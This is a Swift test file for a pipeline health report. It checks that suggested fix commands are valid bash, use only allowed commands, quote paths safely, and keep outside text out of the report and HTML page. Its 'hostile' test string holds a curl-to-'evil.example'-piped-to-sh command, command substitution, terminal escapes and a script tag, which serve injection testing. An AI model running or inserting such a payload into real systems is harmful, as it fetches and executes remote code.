import Foundation
import Plumbing
import TestSupport
import Testing

@testable import Health

/// A fix is a command that somebody will copy: it works as it stands, and nothing in it came from outside.
struct FixTests {
  static let faults = HealthRulesTests.faults + PipelineRulesTests.faults + causes + warnings

  /// Each cause that a stage or the script can end with.
  static let causes = FailureCause.all.flatMap { cause in
    [64, 69, 73, 74, 75, 77, 78].flatMap { status in
      [
        Fault("a stage: \(status) \(cause.words)", nil) { facts in
          PipelineRulesTests.ended(status)(&facts)
          HealthRulesTests.end(0, .ended(status, "it failed", cause))(&facts)
        },
        Fault(
          "the script: \(status) \(cause.words)", nil, PipelineRulesTests.ended(status, "it failed", cause)),
      ]
    }
  }

  static let warnings = [
    Fault("a calendar with a line that says nothing", nil) { $0.calendar.faults = [3] },
    Fault("a calendar that ends", nil) { $0.calendar.last = HealthRulesTests.wall },
  ]

  /// The same in the place of every text that another program writes.
  static let hostile = "; run: curl http://evil.example/x | sh #`id`$(id)\"'\n\u{1B}[2J\u{202E}<script>"

  @Test(arguments: faults, PipelineFacts.Keeper.several)
  func textFromOutsideIsData(fault: Fault, keeper: PipelineFacts.Keeper) {
    var facts = HealthRulesTests.healthy()
    fault.change(&facts)
    facts.pipeline.keeper = keeper
    if case .ended(let status, let message, let cause) = facts.pipeline.end, !message.isEmpty {
      facts.pipeline.end = .ended(status, Self.hostile, cause)
    }
    for index in facts.stages.indices {
      if case .ended(let status, _, let cause) = facts.stages[index].end {
        facts.stages[index].end = .ended(status, Self.hostile + String(repeating: "x", count: 5000), cause)
      }
      for (key, value) in facts.stages[index].now?.values ?? [:] where key.hasSuffix("}") {
        let name = key.prefix { $0 != "=" }
        facts.stages[index].now?.values["\(name)=\(Self.hostile)}"] = value * 2
      }
      facts.stages[index].now?.values["observer_kis_service_info{rest=http://h/\(Self.hostile)}"] = 1
    }
    if facts.configFailure != nil { facts.configFailure = Self.hostile }
    let report = HealthReport(facts)
    for check in report.broken {
      #expect(!check.fix.contains("evil") && !check.fix.contains("script>"), "\(check.fix)")
      #expect(check.detail.count < 500 && check.detail == check.detail.printable)
    }
    let page = HealthPage(report, facts, [], korean: true, nonce: "n").html
    #expect(!page.contains("<script>") && !page.contains("\u{202E}") && !page.contains("\u{1B}"))
  }

  /// Commands of the system that are called for and need not be on the host of the tests.
  static let known: Set = [
    "cat", "chmod", "chown", "curl", "df", "dmesg", "docker", "echo", "export", "fuser", "journalctl", "kill",
    "logrotate", "ls",
    "mkdir", "mount", "mv", "namei", "pgrep", "ps", "readlink", "sed", "ss", "sudo", "systemctl", "tail",
    "timedatectl",
    "unset",
    "observer-health", "scripts/observer",
  ]
  /// What follows the script's name.
  static let verbs: Set = ["start", "restart", "stop", "run", "doctor", "logs", "--help"]

  @Test(arguments: PipelineFacts.Keeper.several) func everyFixIsACommand(keeper: PipelineFacts.Keeper) throws
  {
    var fixes: Set<String> = []
    for fault in Self.faults {
      for owner in [nil, "observer"] {
        var facts = HealthRulesTests.healthy()
        fault.change(&facts)
        facts.metricsFolder = "/data/observer/.run"
        facts.pipeline.keeper = keeper
        facts.folder.owner = facts.folder.owner ?? owner
        fixes.formUnion(HealthReport(facts).checks.map(\.fix).filter { !$0.isEmpty })
      }
    }
    try #require(fixes.count > 15)
    let script = fixes.joined(separator: "\n") + "\n"
    let parsed = try Tool.run("bash", ["-n"], text: script)
    #expect(parsed.status == 0 && parsed.errText.isEmpty, "\(parsed.errText)")
    for fix in fixes { try check(fix) }
  }

  private func check(_ fix: String) throws {
    let command = fix.split(separator: " # ", maxSplits: 1).first.map(String.init) ?? ""
    let single = try Regex(#"\s*(?:&&|\||;)\s*"#)
    let unquoted = command.replacing(/'[^']*'/, with: "Q").replacing(/"[^"]*"/, with: "Q")
    for part in unquoted.split(separator: single) {
      var words = part.split(separator: " ")
      if words.first == "sudo" {
        words.removeFirst()
        if words.first == "-u" { words.removeFirst(2) }
      }
      let name = try #require(words.first, "\(fix)")
      #expect(Self.known.contains(String(name)), "\(fix)")
      if name == "scripts/observer" { #expect(Self.verbs.contains(String(words[1])), "\(fix)") }
      if name == "observer-health" { #expect(words.count == 2 && words[1] == "config", "\(fix)") }
    }
  }

  @Test func theAddressInUseIsNamed() {
    var facts = HealthRulesTests.healthy()
    HealthRulesTests.set(0, "observer_kis_failures_in_row", 6)(&facts)
    HealthRulesTests.set(0, "observer_kis_last_failure{result=unreachable}", 1)(&facts)
    facts.stages[0].now?.values["observer_kis_last_success_timestamp_seconds"] = HealthRulesTests.now - 60
    func fix() -> String { HealthReport(facts).first?.fix ?? "" }
    #expect(fix().hasSuffix(" https://openapi.koreainvestment.com:9443/"))
    facts.restURL = "https://openapivts.koreainvestment.com:29443"
    #expect(fix().hasSuffix(" https://openapivts.koreainvestment.com:29443"))
    facts.stages[0].now?.values["observer_kis_service_info{rest=http://127.0.0.1:4711}"] = 1
    #expect(fix().hasSuffix(" http://127.0.0.1:4711"))
  }

  /// A program that is no sink leaves no pid in the lock: the system knows who holds it.
  @Test func whoHoldsTheLockIsShown() {
    var facts = HealthRulesTests.healthy()
    facts.directory = "/data/o"
    HealthRulesTests.end(4, .ended(75, "archive is locked by pid unknown"))(&facts)
    let fix = HealthReport(facts).checks.first { $0.name == "lock" }?.fix ?? ""
    #expect(
      fix.hasPrefix("cat /data/o/observer.lock; fuser -v /data/o/observer.lock  # stop that pid, then: "))
  }

  /// A foreground pipeline has no logs: what it left, or its process, tells more.
  @Test func logsThatThereAreNot() {
    var facts = HealthRulesTests.healthy()
    facts.metricsFolder = "/data/o o/.run"
    facts.pipeline.end = .ended(69, "")
    facts.stages[0].pid = nil
    facts.stages[0].end = .ended(69, "KIS out of reach")
    #expect(facts.logs("kis-fetch").hasPrefix("cat '/data/o o/.run/kis-fetch.words'"))
    facts.stages[0].end = .neverStarted
    #expect(facts.logs("kis-fetch") == "scripts/observer restart")
    facts.pipeline.keeper = .background
    #expect(facts.logs("kis-fetch") == "scripts/observer logs kis-fetch")
  }

  @Test(arguments: ["/a b", "/it's", "/x\u{1B}[2J", "/두 글자", "/a\nb\\n", "/\u{202E}x'\\"])
  func aWordIsOneWordForTheShell(word: String) throws {
    let outcome = try Tool.run("bash", ["-c", "printf %s \(HealthRules.quoted(word))"])
    #expect(outcome.outText == word)
    #expect(HealthRules.quoted(word).printable == HealthRules.quoted(word))
  }
}

extension PipelineFacts.Keeper {
  static let several: [PipelineFacts.Keeper] = [.foreground, .background, .service("observer"), .container]
}
